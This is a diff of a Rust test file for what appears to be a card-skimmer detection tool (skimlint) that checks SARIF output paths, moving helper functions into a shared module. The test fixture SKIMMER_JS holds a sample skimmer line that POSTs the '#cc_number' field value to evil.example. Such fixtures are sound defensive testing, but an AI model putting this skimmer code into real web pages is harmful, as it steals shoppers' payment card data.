@@ -3,18 +3,12 @@
 //! however it was named; the SARIF details GitHub needs to show a result fully.
 
 mod common;
-use common::skimlint;
+use common::{sarif_schema, skimlint, write};
 
 use std::io::Write;
 use std::path::{Path, PathBuf};
 
 const SKIMMER_JS: &str = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";
-
-fn write(root: &Path, rel: &str, bytes: &[u8]) {
-    let p = root.join(rel);
-    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
-    std::fs::write(p, bytes).unwrap();
-}
 
 fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
     let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
@@ -104,7 +98,7 @@ fn sarif_and_annotation_paths_are_relative_to_the_repository_root() {
     write(
         &repo,
         "fixtures/upload.zip",
-        &zip_of(&[("theme/b.js", SKIMMER_JS.as_bytes())]),
+        zip_of(&[("theme/b.js", SKIMMER_JS.as_bytes())]),
     );
     write(dir.path(), "outside/c.js", SKIMMER_JS.as_bytes());
     let shop_abs = repo.join("fixtures/shop");
@@ -171,22 +165,6 @@ fn sarif_and_annotation_paths_are_relative_to_the_repository_root() {
     // The other formats keep paths as scanned.
     let (_, concise, _) = run(&app, &["check", ".", "--format", "concise"]);
     assert!(concise.starts_with("a.js:2:"), "{concise}");
-}
-
-fn sarif_schema() -> Option<serde_json::Value> {
-    let home = std::env::var_os("CARGO_HOME")
-        .map(PathBuf::from)
-        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".cargo")))?;
-    for index in std::fs::read_dir(home.join("registry").join("src"))
-        .ok()?
-        .flatten()
-    {
-        let p = index.path().join("serde-sarif-0.8.0/src/schema.json");
-        if let Ok(text) = std::fs::read_to_string(&p) {
-            return serde_json::from_str(&text).ok();
-        }
-    }
-    None
 }
 
 fn assert_valid(doc: &serde_json::Value) {
